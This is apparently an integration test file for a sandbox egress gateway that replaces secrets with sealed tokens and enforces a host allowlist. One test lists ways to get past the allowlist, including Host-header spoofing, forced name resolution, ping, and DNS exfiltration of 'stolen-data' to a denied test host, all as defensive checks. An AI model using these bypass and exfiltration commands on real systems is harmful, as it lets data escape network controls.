// What leaves a sandbox with secret stores: which host gets what in place of a sealed token, what gets out at
// all, and where the values never are. Real guest, real SDK; the servers are in lib/internet.mjs.
import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { after, before, describe, test } from "node:test";
import { SecretStore } from "@opencomputer/sdk";
import { apiKey, apiUrl, cleanUp, createBox, eventually, long, sh, suite, takeTurn, waitReady } from "./lib/shoal.mjs";
import { noMachine, onNode } from "./lib/node.mjs";
import { ADDRESS, EVENTS, Internet } from "./lib/internet.mjs";

await takeTurn();

const at = { apiKey, apiUrl };
const [VALUE, NEXT] = [`sk-${randomUUID()}`, `sk-${randomUUID()}`];
const API = "api.egress.test"; // gets the secret
const OTHER = "other.egress.test"; // may be reached
const DENIED = "denied.egress.test";
const MIB = long ? 100 : 8;
const GROWTH_MIB = 24;

describe("egress", { ...suite, skip: noMachine || (long ? false : "it runs with SHOAL_TEST_LONG") }, () => {
  const internet = new Internet(API, OTHER, DENIED);
  let store, box, token;

  before(async () => {
    await onNode("touch /tmp/egress-begin");
    await internet.start();
    store = await SecretStore.create({ ...at, name: `egress-${randomUUID().slice(0, 8)}`, egressAllowlist: [API, OTHER] });
    await SecretStore.setSecret(store.id, "API_KEY", VALUE, { ...at, allowedHosts: [API] });
    box = await createBox({ secretStore: store.name });
    token = (await sh(box, "printenv API_KEY")).trim();
    assert.match(token, /^osb_sealed_[0-9a-f]{32}$/);
  });
  after(async () => {
    await cleanUp();
    if (store) await SecretStore.delete(store.id, at);
    await internet.stop();
  });

  test("the server of the secret gets its value, in headers and bodies, others get the token", async () => {
    const send = (host, path) => sh(box, `curl -sS "https://${host}${path}?k=$API_KEY" -H "X-Key: $API_KEY" ` +
      `-H "Authorization: Bearer $API_KEY" -d '{"key":"'"$API_KEY"'"}'`);
    await send(API, "/one");
    const one = internet.last("/one");
    assert.equal(one.headers["x-key"], VALUE);
    assert.equal(one.headers.authorization, `Bearer ${VALUE}`);
    assert.equal(one.body, `{"key":"${VALUE}"}`);
    assert.equal(one.headers["content-length"], `${one.bytes}`);
    assert.equal(one.path, `/one?k=${token}`);
    await send(OTHER, "/two");
    const two = internet.last("/two");
    assert.equal(two.headers["x-key"], token);
    assert.equal(two.body, `{"key":"${token}"}`);
  });

  test("Python and Node's fetch do as curl does (template base)", async () => {
    const web = await createBox({ template: "base", memoryMB: 1024, secretStore: store.name });
    const seen = (path) => [internet.last(path).headers["x-key"], internet.last(path).body];
    await sh(web, `python3 -c 'import os, urllib.request as u; k = os.environ["API_KEY"]; ` +
      `u.urlopen(u.Request("https://${API}/python", data=k.encode(), headers={"X-Key": k})).read()'`);
    assert.deepEqual(seen("/python"), [VALUE, VALUE]);
    await sh(web, `node -e 'const k = process.env.API_KEY; ` +
      `fetch("https://${API}/node", { method: "POST", body: k, headers: { "X-Key": k } }).then((r) => r.text())'`);
    assert.deepEqual(seen("/node"), [VALUE, VALUE]);
  });

  test("without the variables of the environment, and in credentials, it is the same", async () => {
    await sh(box, `env -u HTTPS_PROXY -u https_proxy -u HTTP_PROXY -u http_proxy -u CURL_CA_BUNDLE -u SSL_CERT_FILE ` +
      `curl -sS -u "user:$API_KEY" https://${API}/bare`);
    const { authorization } = internet.last("/bare").headers;
    assert.equal(Buffer.from(authorization.split(" ")[1], "base64").toString(), `user:${VALUE}`);
  });

  test("a client that would speak HTTP/2 falls back", async () => {
    assert.equal(await sh(box, `curl -sS --http2 -o /dev/null -w '%{http_version}' -H "X-Key: $API_KEY" https://${API}/h2`), "1.1");
    assert.equal(internet.last("/h2").headers["x-key"], VALUE);
    // where nothing is opened, both ends speak what they like
    assert.equal(await sh(box, `curl -sS --http2 -o /dev/null -w '%{http_version}' https://${OTHER}/h2-other`), "2");
    assert.equal(internet.last("/h2-other").version, "2.0");
  });

  test("plain HTTP gets no value", async () => {
    await sh(box, `curl -sS -H "X-Key: $API_KEY" http://${API}/plain; env -u http_proxy curl -sS -H "X-Key: $API_KEY" http://${API}/bare-plain`);
    assert.equal(internet.last("/plain").headers["x-key"], token);
    assert.equal(internet.last("/bare-plain").headers["x-key"], token);
  });

  test("nothing gets out beside the allowlist", async () => {
    const curl = "curl -sSf --max-time 10 -o /dev/null";
    const bare = `env -i PATH="$PATH" ${curl}`;
    const ways = [
      `${curl} https://${DENIED}/`,
      `${bare} -k https://${DENIED}/`,
      `${bare} -k --resolve ${DENIED}:443:${ADDRESS} https://${DENIED}/`,
      `${bare} -k https://${ADDRESS}/`,
      `${curl} -k https://${ADDRESS}/`,
      `${bare} -H 'Host: ${DENIED}' http://${ADDRESS}/`,
      `${bare} --http0.9 http://${ADDRESS}:8080/`,
      `${curl} --http0.9 http://${API}:8080/`,
      `${curl} -p --http0.9 http://${API}:8080/`, // CONNECT to another port
      `${bare} -g -6 -k 'https://[2001:db8::80]/'`,
      `${curl} -k -H 'Host: ${DENIED}' https://${API}/`,
      `busybox ping -c 1 -W 2 ${ADDRESS}`,
      `busybox nslookup stolen-data.${DENIED} | grep -F ${ADDRESS}`,
      `busybox nslookup ${API} 203.0.113.53 | grep -F ${ADDRESS}`,
      `busybox nslookup ${API} 10.0.2.3 | grep -F ${ADDRESS}`,
    ];
    const seen = internet.requests.length;
    const out = await sh(box, ways.map((way, i) => `timeout 20 ${way} >/tmp/way 2>&1 && echo "${i} got out"; `).join("") +
      `getent ahostsv4 ${API} | grep -q -F ${ADDRESS} && echo names are answered`, { timeout: 400 });
    assert.deepEqual(out.trim().split("\n").map((line) => line.replace(/^\d+/, (i) => ways[i])), ["names are answered"]);
    assert.deepEqual(internet.requests.slice(seen), []);
    assert.equal(internet.strays, 0);
    assert.ok(internet.names.includes(API));
    assert.ok(!internet.names.some((name) => name.includes("stolen")), `${internet.names}`);
  });

  test("events pass one by one", async () => {
    // the next one is sent when the guest has said that this one came: nothing on the way may keep it
    const out = await sh(box, `curl -sSN https://${API}/events | while read -r line; do ` +
      `case $line in data:*) echo "$line"; curl -sS -d x https://${API}/came >/dev/null;; esac; done`);
    assert.deepEqual(out.trim().split("\n"), Array.from({ length: EVENTS }, (_, n) => `data: ${n}`));
  });

  test(`${MIB} MiB pass up in little memory of the gateway`, async () => {
    const memory = async () => Number(await onNode("grep VmRSS /proc/$(pgrep -x shoal-egress | head -n 1)/status | tr -dc 0-9")) / 1024;
    const begin = await memory();
    await sh(box, `head -c $((${MIB} << 20)) /dev/zero | curl -sS -T - -H 'Content-Type: text/plain' -H "X-Key: $API_KEY" https://${API}/up`,
      { timeout: 600 });
    const up = internet.last("/up");
    assert.equal(up.bytes, MIB << 20);
    assert.equal(up.headers["x-key"], VALUE);
    const grown = (await memory()) - begin;
    assert.ok(grown < GROWTH_MIB, `the gateway grew by ${grown} MiB`);
  });

  test("a new value and another allowlist reach a sandbox that runs", async () => {
    const reaches = async (host, path) => {
      await box.exec.run(`curl -sS --max-time 20 -o /dev/null -H "X-Key: $API_KEY" https://${host}${path}`);
      return internet.last(path)?.headers["x-key"];
    };
    await SecretStore.setSecret(store.id, "API_KEY", NEXT, { ...at, allowedHosts: [API] });
    await eventually("the new value is sent", async () => (await reaches(API, "/rotated")) === NEXT);
    assert.equal((await sh(box, "printenv API_KEY")).trim(), token);
    assert.equal(await reaches(DENIED, "/now"), undefined);
    await SecretStore.update(store.id, { ...at, egressAllowlist: [API, DENIED] });
    await eventually("the host that was added is reached", async () => (await reaches(DENIED, "/now")) === token);
    assert.equal(await reaches(OTHER, "/gone"), undefined);
    await SecretStore.deleteSecret(store.id, "API_KEY", at);
    await eventually("a secret that is gone is sent no more", async () => (await reaches(API, "/deleted")) === token);
  });

  test("the values are in no dump of memory and disk, no checkpoint, no log, no file of the node", async () => {
    await sh(box, "echo $API_KEY >/workspace/key; sync"); // what may be found, to know that what is searched is what is meant
    const { id } = await box.createCheckpoint("after-traffic");
    await waitReady(box, id);
    await box.hibernate();
    // through tar, which leaves out the holes of disks: they look as large as what the guest was promised
    const files = "find /var/lib/shoal /run/shoal* /var/log -type f -newer /tmp/egress-begin -print0";
    const found = (...texts) => onNode(`${files} | LC_ALL=C xargs -0 -r -n 1 sh -c ` +
      `'tar -cSf - "$0" 2>/dev/null | grep -qaF ${texts.map((text) => `-e ${text}`).join(" ")} && echo "$0"' || true`);
    // what is there is found: in the dump of the memory and that of the disk, in the logs, in the records of the node
    let dumps = [];
    const isIn = (kind) => dumps.some((name) => name.includes("/layers/") && name.endsWith(`.${kind}`));
    await eventually(() => `the token is in a memory and in a disk (it is in ${dumps})`, async () => {
      dumps = (await found(token)).split("\n"); // layers may be merged at the same moment
      return isIn("mem") && isIn("disk");
    }, 60_000);
    assert.match(await found("egress.refused"), /\.log$/m);
    assert.match(await found(box.sandboxId), /\/db\//);
    // as it is, as credentials are sent, and a piece of it, should some file have compressed the rest
    const secret = [VALUE, NEXT].flatMap((value) => [value, btoa(`user:${value}`), value.slice(-12)]);
    assert.equal(await found(...secret), "");
    assert.equal((await onNode(`dmesg | grep -cF ${secret.map((text) => `-e ${text}`).join(" ")} || true`)).trim(), "0");
  });
});
